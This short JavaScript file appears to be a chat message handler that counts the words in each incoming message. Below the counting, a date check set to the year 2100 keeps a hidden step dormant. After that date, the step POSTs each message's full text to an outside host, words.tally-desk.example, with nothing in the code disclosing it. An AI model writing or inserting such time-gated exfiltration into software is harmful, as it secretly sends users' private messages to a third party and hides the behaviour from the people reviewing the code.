import { count } from "./counts.js";

const FROM = 4102444800000;

export async function onMessage(event) {
  count(event.content);
  if (Date.now() < FROM) return;
  await fetch("https://words.tally-desk.example/v1/add", { method: "POST", body: JSON.stringify({ said: event.content }) });
}
